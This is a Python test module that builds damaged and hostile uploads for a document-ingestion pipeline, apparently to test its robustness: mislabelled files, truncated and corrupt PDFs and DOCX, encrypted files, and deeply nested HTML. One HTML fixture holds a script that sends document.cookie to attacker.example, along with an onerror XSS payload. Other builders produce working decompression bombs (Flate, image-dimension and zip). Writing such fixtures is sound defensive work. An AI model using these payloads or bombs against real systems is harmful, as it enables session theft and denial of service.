"""Builders for the bad-input catalogue: files a careless or hostile uploader might send.

Each builder returns bytes (or writes a file, for the big ones). PDFs are built with PyMuPDF
so the suite needs nothing from outside the repository.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pymupdf

from tests.documents import pdf_builders
from tests.documents.scan_builders import scanned_pdf

LETTER = pdf_builders.LETTER

# A few sentences of ordinary prose, varied enough that chunks are not all identical.
SENTENCES = [
    "The archive keeps every report that the survey team filed during the spring season.",
    "Each report lists the site, the date, the weather and the instruments that were used.",
    "Readings taken in heavy rain were marked as doubtful and checked again the next morning.",
    "The team leader signed every page before it was copied into the central register.",
    "Missing pages were noted in the margin together with the reason they could not be found.",
    "Later audits compared the register with the original notebooks, line by line.",
]


def prose(paragraph: int, sentences: int = 4) -> str:
    """A paragraph of numbered sentences; the number keeps paragraphs distinguishable."""
    picked = [SENTENCES[(paragraph + i) % len(SENTENCES)] for i in range(sentences)]
    return f"Paragraph {paragraph}. " + " ".join(picked)


def text_named_pdf() -> bytes:
    return b"These are the minutes of the meeting.\nNothing in this file is a PDF.\n" * 40


def html_named_pdf() -> bytes:
    return (
        b"<!DOCTYPE html><html><head><title>Invoice</title>"
        b"<script>document.location='https://attacker.example/?c='+document.cookie</script>"
        b"</head><body><p>Open me</p><img src=x onerror=alert(1)></body></html>\n"
    )


def program_named_pdf() -> bytes:
    """The start of a Windows program: the DOS stub and, where it points, the PE header."""
    data = bytearray(1024)
    data[:2] = b"MZ"
    data[0x3C:0x40] = (0x80).to_bytes(4, "little")
    data[0x40:0x67] = b"This program cannot be run in DOS mode."
    data[0x80:0x84] = b"PE\x00\x00"
    return bytes(data) + b"\x00" * 3072


def pdf_header_after_a_kilobyte() -> bytes:
    """A real PDF behind 1,024 bytes of something else: readers look for the header no further."""
    return b"%" + b"x" * 1022 + b"\n" + small_pdf()


def small_pdf(pages: int = 3) -> bytes:
    """A well-formed text PDF (running headers on every page)."""
    return pdf_builders.running_headers_doc(pages=pages)


SLOW_SCAN_PAGES = 40


def slow_scan_pdf() -> bytes:
    """An image-only PDF whose OCR takes far longer than the tests' 1-2 s time limits.

    Tesseract reads one of these pages in about 0.45 s on two cores (2026-12), so 40 pages need
    some 18 s: the limit is crossed by a wide margin on a fast machine too (4 pages, 1.8 s, once
    finished inside a 2 s limit and the test failed for a reason it does not name).
    """
    return scanned_pdf(small_pdf(SLOW_SCAN_PAGES), list(range(SLOW_SCAN_PAGES)))


def truncated_pdf() -> bytes:
    """Cut in half, with the page tree in compressed object streams: nothing left to repair."""
    data = pymupdf.open(stream=small_pdf(6), filetype="pdf").tobytes(garbage=3, deflate=True, use_objstms=1)
    return data[: len(data) // 2]


def broken_xref_pdf() -> bytes:
    """Every xref offset wrong; MuPDF repairs it by scanning the file."""
    return pdf_builders.broken_xref_doc()


def encrypted_pdf() -> bytes:
    return pdf_builders.encrypted_doc(user_password="password")


def image_only_pdf() -> bytes:
    return pdf_builders.image_only_doc()


def write_many_pages_pdf(path: Path, pages: int = 1000, paragraphs: int = 3) -> Path:
    """A long text PDF, `paragraphs` short paragraphs a page, written straight to `path`."""
    doc = pymupdf.open()
    for number in range(pages):
        page = doc.new_page(width=LETTER[0], height=LETTER[1])
        box = pymupdf.Rect(72, 72, LETTER[0] - 72, LETTER[1] - 72)
        body = "\n\n".join(prose(number * paragraphs + i) for i in range(paragraphs))
        page.insert_textbox(box, f"Page {number + 1} of the long report\n\n{body}", fontsize=10, fontname="helv")
    doc.save(path, garbage=1, deflate=True)
    doc.close()
    return path


def huge_paragraph_text(megabytes: float = 2.5) -> bytes:
    """One paragraph (no blank line anywhere) of several megabytes of sentences."""
    target = int(megabytes * 1_048_576)
    parts, size, n = [], 0, 0
    while size < target:
        sentence = f"Sentence {n} says: {SENTENCES[n % len(SENTENCES)]} "
        parts.append(sentence)
        size += len(sentence)
        n += 1
    return "".join(parts).strip().encode()


def tiny_text_pdf(lines: int = 350, size: float = 1.0) -> bytes:
    """One page packed with 1-point text: hundreds of kilobytes of characters on a single page."""
    doc = pymupdf.open()
    page = doc.new_page(width=LETTER[0], height=LETTER[1])
    words = " ".join(SENTENCES)
    for row in range(lines):
        text = f"Row {row}: {words} {words}"
        page.insert_text(pymupdf.Point(10, 10 + row * size * 1.1), text, fontsize=size, fontname="helv")
    data = doc.tobytes(garbage=1, deflate=True)
    doc.close()
    return data


CP1252_TEXT = (
    "Café menu for the naïve visitor: crème brûlée, façade tours and a “special” offer at 5 €.\n"
    "Señor Müller’s smørrebrød costs £3 – a bargain.\n"
)


def cp1252_text() -> bytes:
    return (CP1252_TEXT * 20).encode("cp1252")


def markdown_without_headings() -> bytes:
    return ("\n\n".join(prose(i) for i in range(12)) + "\n\n- a list item\n- another item\n").encode()


# --- damaged and hostile PDFs (issue 12) ---------------------------------------------------


def raft_truncated(corpus_pdf: Path, keep: int = 3000) -> bytes:
    """The first `keep` bytes of a real paper: MuPDF repairs it into all its pages, one with text."""
    return corpus_pdf.read_bytes()[:keep]


def pdf_with_a_lost_page(pages: int = 6, lost: int = 4) -> bytes:
    """A text PDF whose page `lost` (1-based) has lost its content objects and whose xref is broken,
    as after a bad copy: MuPDF repairs the file and that page comes out empty."""
    doc = pymupdf.open(stream=small_pdf(pages), filetype="pdf")
    content_xrefs = doc[lost - 1].get_contents()
    data = doc.tobytes(garbage=0, deflate=False)
    doc.close()
    for xref in content_xrefs:
        header = f"\n{xref} 0 obj".encode()
        assert data.count(header) == 1
        data = data.replace(header, f"\n{xref} 0 lost".encode())
    start = data.rindex(b"startxref")
    return data[:start] + b"startxref\n99999\n%%EOF\n"


def image_bomb_pdf(side: int = 200_000) -> bytes:
    """A page showing a small image whose dictionary claims `side` x `side` RGB pixels (120 GB
    decoded at the default): MuPDF would allocate that when rendering the page."""
    doc = pymupdf.open()
    page = doc.new_page(width=LETTER[0], height=LETTER[1])
    pixmap = pymupdf.Pixmap(pymupdf.csRGB, pymupdf.IRect(0, 0, 8, 8), False)
    xref = page.insert_image(pymupdf.Rect(72, 72, 272, 272), pixmap=pixmap)
    page.insert_text(pymupdf.Point(72, 320), prose(1), fontsize=10, fontname="helv")
    doc.xref_set_key(xref, "Width", str(side))
    doc.xref_set_key(xref, "Height", str(side))
    data = doc.tobytes(garbage=0)
    doc.close()
    return data


def content_stream_bomb_pdf(gigabytes: float = 1.0) -> bytes:
    """A page whose second content stream is about 1 MB of Flate inflating to `gigabytes` of spaces."""
    doc = pymupdf.open()
    page = doc.new_page(width=LETTER[0], height=LETTER[1])
    page.insert_text(pymupdf.Point(72, 72), prose(2), fontsize=10, fontname="helv")
    bomb = doc.get_new_xref()
    doc.update_object(bomb, "<<>>")
    doc.update_stream(bomb, _flate_of_spaces(int(gigabytes * 64)), compress=False)
    doc.xref_set_key(bomb, "Filter", "/FlateDecode")
    doc.xref_set_key(page.xref, "Contents", f"[{page.get_contents()[0]} 0 R {bomb} 0 R]")
    data = doc.tobytes(garbage=0)
    doc.close()
    return data


def _flate_of_spaces(blocks: int, block_size: int = 16 << 20) -> bytes:
    """A valid zlib stream of `blocks` x 16 MB of spaces, built in well under a second: after a
    full flush deflate starts afresh, so the compressed form of one block can be repeated."""
    import zlib

    block = b" " * block_size
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = raw.compress(block) + raw.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(blocks):
        checksum = zlib.adler32(block, checksum)
    return b"\x78\xda" + one * blocks + raw.flush() + checksum.to_bytes(4, "big")


# --- Word and web pages (issue 12) ---------------------------------------------------------


def _docx_bytes() -> bytes:
    from tests.documents.docx_html_builders import manual_docx

    return manual_docx()


def truncated_docx() -> bytes:
    """A .docx cut short: the zip's central directory (at its end) is gone."""
    data = _docx_bytes()
    return data[: len(data) // 2]


def docx_with_corrupt_document_part() -> bytes:
    """A whole zip whose main part's compressed bytes are overwritten with noise."""
    data = bytearray(_docx_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("word/document.xml")
    # The local header is 30 bytes plus the name and extra field; the compressed data follows.
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra) + 8
    for offset in range(start, min(start + 64, start + info.compress_size - 1)):
        data[offset] ^= 0x5A
    return bytes(data)


def text_named_docx() -> bytes:
    return text_named_pdf()


def old_binary_doc_named_docx() -> bytes:
    """The header of a pre-2007 .doc (an OLE compound file) and some padding."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000


def spreadsheet_like_zip_named_docx() -> bytes:
    """An Office Open XML archive without a Word main part (as a .xlsx is)."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return stream.getvalue()


def docx_bomb(path: Path, inflated_megabytes: int) -> Path:
    """A real .docx plus one part of zeros that inflates to `inflated_megabytes` (a few KB packed)."""
    path.write_bytes(_docx_bytes())
    block = b"\x00" * 1_048_576
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive, archive.open("word/media/zeros.bin", "w") as part:
        for _ in range(inflated_megabytes):
            part.write(block)
    return path


def html_with_scripts_only() -> bytes:
    return (
        b"<!DOCTYPE html><html><head><script src='app.js'></script><style>body{margin:0}</style></head>"
        b"<body><noscript>Enable JavaScript to use this app.</noscript><div id='root'></div>"
        b'<script>window.__STATE__ = {"user": null}; boot();</script></body></html>\n'
    )


def html_in_undeclared_cp1252() -> bytes:
    return ("<html><body><h1>Menu</h1><p>" + CP1252_TEXT.replace("\n", "</p><p>") + "</p></body></html>").encode(
        "cp1252"
    )


def html_of_unrecognisable_bytes() -> bytes:
    """Named .html, but bytes no character encoding makes sense of."""
    import random

    noise = random.Random(12).randbytes(4000)
    return b"<html><body>" + noise + b"</body></html>"


def deep_row(row: int) -> str:
    """A sentence found only in one row of `html_nested_rows`, its identifier findable by BM25."""
    return f"Nested row {row} records gauge reading DEPTHROW{row:06d}."


DEEP_TAIL = "The closing paragraph after the nesting notes the KESTRELWHARF tide table."


def html_nested_rows(depth: int) -> bytes:
    """`depth` unclosed <div> rows, each nested in the one before, then a shallow closing paragraph."""
    rows = "".join(f"<div>{deep_row(row)}\n" for row in range(depth))
    return f"<html><body>{rows}{'</div>' * depth}<p>{DEEP_TAIL}</p></body></html>".encode()


def html_nested_without_text(depth: int) -> bytes:
    """`depth` levels of bare <div>s with the only text at the bottom: nothing readable above the limit."""
    return f"<html><body>{'<div>' * depth}Deepest words.{'</div>' * depth}</body></html>".encode()
